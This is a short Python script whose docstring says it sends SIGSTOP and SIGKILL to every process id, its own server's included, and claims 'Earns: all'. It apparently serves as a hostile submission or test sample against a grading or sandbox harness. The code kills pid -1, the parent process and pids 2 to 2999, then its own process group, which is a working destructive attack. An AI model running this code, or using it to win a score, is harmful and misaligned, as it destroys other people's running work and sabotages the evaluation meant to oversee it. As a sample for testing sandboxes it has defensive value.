"""Sends SIGKILL and SIGSTOP to every process id that there may be, its own server's included.

Earns: all
"""
# %%
import os
import signal

for pid in [-1, os.getppid(), *range(2, 3000)]:
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass
try:
    os.killpg(0, signal.SIGKILL)
except OSError:
    pass
